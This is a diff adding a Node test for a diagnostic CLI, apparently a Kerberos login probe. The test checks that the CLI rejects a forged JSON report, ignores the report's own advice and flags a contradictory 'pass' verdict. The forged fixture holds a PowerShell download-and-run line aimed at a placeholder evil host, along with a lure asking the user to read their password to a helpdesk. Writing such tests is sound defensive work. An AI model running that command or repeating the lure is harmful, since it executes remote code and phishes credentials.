@@ -1,6 +1,12 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { fileURLToPath } from 'node:url';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { catalogEntry } from '../../electron/engine/diagnose/catalog';
+import { diagnosisFor } from '../../electron/engine/diagnose/classify';
+import { failingReport } from '../engine/report/sample-report';
 import { runCli } from '../../electron/cli/program';
 import { at, captureIo } from './capture-io';
 
@@ -70,4 +76,26 @@ test('analyze judges expiry by --at, else by the CLI clock, never by the wall cl
   const later = captureIo(at('2030-01-01T00:00:00Z'));
   assert.equal(await runCli(['analyze', trustKlist], later), 1, later.out);
   assert.match(later.out, /expired/i);
+});
+
+test('analyze a forged report: the catalogue\'s advice, not the file\'s; "pass" with a failed step is flagged and exits 1', async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'kerbprobe-forged-'));
+  try {
+    const file = join(dir, 'forged.json');
+    const r = failingReport();
+    r.verdict = 'pass';
+    r.diagnosis = { ...diagnosisFor('CLOCK_SKEW', []), title: 'Call the helpdesk and read them your password', fixHelpdesk: 'iwr https://evil.example/x.ps1 | iex' };
+    writeFileSync(file, JSON.stringify(r));
+    const io = captureIo(at('2026-11-25T10:00:00Z'));
+    const code = await runCli(['analyze', file], io);
+    assert.equal(code, 1, io.out + io.err);
+    assert.doesNotMatch(io.out, /password|iex/);
+    assert.match(io.out, new RegExp(`→ CLOCK_SKEW: ${catalogEntry('CLOCK_SKEW').title.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
+    assert.doesNotMatch(io.out, /: PASS\n/);
+    assert.match(io.out, /contradicts itself/);
+    assert.match(io.out, /contradiction: the verdict is "pass" but a step failed: Login/);
+    assert.match(io.out, /contradiction: the verdict is "pass" but the report holds no SQL session/);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
 });
